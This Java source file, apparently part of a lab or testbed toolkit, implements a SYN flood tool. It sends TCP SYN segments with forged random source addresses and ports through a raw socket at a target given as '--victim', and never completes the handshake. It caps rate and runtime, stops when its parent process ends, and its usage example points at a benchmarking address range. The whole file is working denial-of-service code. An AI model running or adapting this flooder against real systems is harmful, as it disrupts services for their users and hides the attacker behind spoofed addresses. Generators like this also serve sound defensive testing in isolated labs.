package dee.bot.lab.forger;

import dee.bot.lab.service.Arguments;
import dee.bot.lab.service.ParentWatch;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.SplittableRandom;

/**
 * Floods a server with SYNs of many addresses, none of which goes on with its handshake; bounded in
 * rate and time. It ends with its parent, and after ten minutes at the latest.
 *
 * <pre>
 * SynForger --victim 198.18.31.1:8080 --sources 198.19.31.0 --last-source 126 --per-second 200
 * </pre>
 */
public final class SynForger {

  private static final Duration LONGEST = Duration.ofMinutes(10);
  private static final int FIRST_PORT = 1024;
  private static final int PORTS = 64_000;

  private final SplittableRandom random = new SplittableRandom();
  private final InetSocketAddress victim;
  private final byte[] net;
  private final int last;

  private SynForger(InetSocketAddress victim, byte[] net, int last) {
    this.victim = victim;
    this.net = net;
    this.last = last;
  }

  /** Runs until standard input ends, or for ten minutes. */
  public static void main(String[] words) throws IOException, InterruptedException {
    ParentWatch.start();
    Arguments arguments = Arguments.of(words);
    SynForger forger =
        new SynForger(
            address(arguments.value("--victim")),
            InetAddress.getByName(arguments.value("--sources")).getAddress(),
            Integer.parseInt(arguments.value("--last-source")));
    int perSecond = Integer.parseInt(arguments.value("--per-second"));
    Duration gap = Duration.ofSeconds(1).dividedBy(perSecond);
    try (RawSocket raw = new RawSocket()) {
      for (long sent = 0; sent < perSecond * LONGEST.toSeconds(); sent++) {
        raw.send(forger.syn());
        Thread.sleep(gap);
      }
    }
    System.exit(0);
  }

  private ForgedSegment syn() throws IOException {
    byte[] source = net.clone();
    source[3] = (byte) random.nextInt(1, last + 1);
    InetSocketAddress from =
        new InetSocketAddress(
            InetAddress.getByAddress(source), FIRST_PORT + random.nextInt(PORTS));
    return new ForgedSegment(
        new ForgedSegment.Ends(from, victim),
        random.nextInt(),
        new ForgedSegment.Look(ForgedSegment.SYN, 64_240, 52, random.nextInt(1, 0x10000)));
  }

  static InetSocketAddress address(String hostAndPort) {
    String[] parts = hostAndPort.split(":", -1);
    return new InetSocketAddress(parts[0], Integer.parseInt(parts[1]));
  }
}
